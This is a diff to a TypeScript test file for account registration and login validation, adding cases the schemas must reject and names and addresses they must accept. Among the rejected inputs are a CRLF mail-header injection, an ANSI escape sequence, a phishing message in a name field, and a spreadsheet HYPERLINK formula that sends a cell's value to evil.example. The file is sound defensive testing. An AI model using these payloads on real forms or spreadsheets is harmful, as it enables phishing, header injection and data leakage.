@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { errorKeys, loginSchema, newPasswordSchema, registerSchema } from "./account-forms";
+import { accountEmailSchema, emailSchema, errorKeys, loginSchema, newPasswordSchema, registerSchema } from "./account-forms";
 
 const good = { email: "ana.novak@example.com", password: "Zelena-jabolka-7", firstName: "Ana", lastName: "Novak" };
 
@@ -24,6 +24,12 @@ describe("registerSchema (argon2id, 8..128 characters, no common passwords)", ()
     [{ lastName: "" }, "lastNameRequired"],
     [{ firstName: "A".repeat(101) }, "nameTooLong"],
     [{ email: ["x@y.si"] }, "emailInvalid"],
+    // DESIGN.md: names take name characters only; an address is a dot-atom mailbox (RFC 5321)
+    [{ firstName: "your account is locked, unlock it at https://lumera-help.example" }, "firstNameInvalid"],
+    [{ firstName: "Ana\u001b[2J" }, "firstNameInvalid"],
+    [{ lastName: "Novak\r\nBcc: x@example.com" }, "lastNameInvalid"],
+    [{ email: '=HYPERLINK("http://evil.example/?"&B2,"Refund")&"@x.com"' }, "emailInvalid"],
+    [{ email: "ana..novak@example.com" }, "emailInvalid"],
   ])("refuses %o with %s", (change, key) => {
     expect(problems(registerSchema.safeParse({ ...good, ...change }))).toContain(key);
   });
@@ -35,6 +41,21 @@ describe("registerSchema (argon2id, 8..128 characters, no common passwords)", ()
       "lastNameRequired",
       "passwordTooShort",
     ]);
+  });
+});
+
+describe("e-mail addresses", () => {
+  it("an address to store and mail to is a dot-atom mailbox; finding an account needs only the old shape, so older accounts still sign in", () => {
+    expect(emailSchema.safeParse(" ana.novak@example.com ").data).toBe("ana.novak@example.com");
+    expect(emailSchema.safeParse('"ana"@example.com').success).toBe(false);
+    expect(accountEmailSchema.safeParse('"ana"@example.com').success).toBe(true);
+    expect(accountEmailSchema.safeParse("ana novak@example.com").success).toBe(false);
+    expect(loginSchema.safeParse({ email: "ana..novak@example.com", password: "x" }).success).toBe(true);
+  });
+
+  it("takes the names people have", () => {
+    expect(registerSchema.safeParse({ ...good, firstName: "Ana-Marija", lastName: "O'Brien" }).success).toBe(true);
+    expect(registerSchema.safeParse({ ...good, firstName: "Kovács Éva", lastName: "Nguyễn" }).success).toBe(true);
   });
 });
 
